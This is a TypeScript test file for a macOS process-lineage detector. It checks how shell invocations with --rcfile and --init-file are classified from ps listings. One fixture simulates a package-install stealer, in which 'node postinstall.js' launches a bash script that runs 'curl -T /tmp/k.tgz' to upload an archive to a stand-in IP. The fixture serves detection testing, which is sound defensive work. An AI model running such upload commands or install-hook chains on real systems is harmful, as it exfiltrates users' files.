/**
 * From a ps listing, a relative script after an absolute --rcfile/--init-file value, followed by -i, is a script, not the
 * rest of a path with spaces. A path word starting with `-` (`My Stuff - old`) still ends the path
 * early: such a shell reads as running a script (known gap, pinned below).
 */
import { expect, it } from 'vitest';
import { runsCommandOrScript } from './lineage.js';
import { S, psArgs, terminalSession } from '../collectors/eslogger/testing/terminal-session.js';

const ATTACKS: readonly (readonly string[])[] = [
  ['bash', '--rcfile', '/dev/null', 'up.sh', '-i'],
  ['bash', '--rcfile', '/tmp/a', 'b', '-i'],
  ['bash', '--init-file', '/dev/null', './up.sh', '-i'],
  ['sh', '--rcfile', '/dev/null', 'up.sh', 'x', '-il'],
];

it.each(ATTACKS.map((argv) => [argv.join(' '), argv] as const))('ps listing: `%s` runs a script (as the exact exec argv says)', (_text, argv) => {
  expect({ exec: runsCommandOrScript(argv[0]!, argv, false), listing: runsCommandOrScript(argv[0]!, argv, true) }).toEqual({ exec: true, listing: true });
});

it('ps-only host: a stealer\'s new `bash --rcfile /dev/null up.sh -i` is no group root', () => {
  const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810 (ps)
  const at = S + 30;
  processes.observe({ pid: 900, processStart: S, ppid: 810, uid: 501, path: '/opt/homebrew/bin/node', args: psArgs(900, ['node', 'postinstall.js']), source: 'ps', seenAt: at });
  processes.observe({ pid: 950, processStart: S + 1, ppid: 900, uid: 501, path: '/bin/bash', args: psArgs(950, ['bash', '--rcfile', '/dev/null', 'up.sh', '-i']), source: 'ps', seenAt: at });
  processes.observe({ pid: 960, processStart: S + 2, ppid: 950, uid: 501, path: '/usr/bin/curl', args: psArgs(960, ['curl', '-T', '/tmp/k.tgz', 'https://203.0.113.5/']), source: 'ps', seenAt: at });
  const g = processes.group(processes.get(960)!);
  expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 810, kind: 'terminal_shell' });
});

it('ps listing: bash --init-file /Users/dana/My Stuff - old/rc -i reads as a script (known gap: a `-` word ends the path)', () => {
  const argv = psArgs(1, ['bash', '--init-file', '/Users/dana/My Stuff - old/rc', '-i']);
  expect(runsCommandOrScript('bash', argv, true)).toBe(true);
  expect(runsCommandOrScript('bash', ['bash', '--init-file', '/Users/dana/My Stuff - old/rc', '-i'], false)).toBe(false);
});

it('ps listing: the JetBrains rcfile path with spaces and -i is interactive; so is `--init-file /Users/dana/My Stuff/rc -i`', () => {
  for (const argv of [['bash', '--rcfile', '/Applications/IntelliJ IDEA CE.app/Contents/plugins/terminal/jediterm-bash.in', '-i'], ['bash', '--init-file', '/Users/dana/My Stuff/rc', '-i']]) {
    expect(runsCommandOrScript('bash', psArgs(1, argv), true), argv.join(' ')).toBe(false);
  }
});
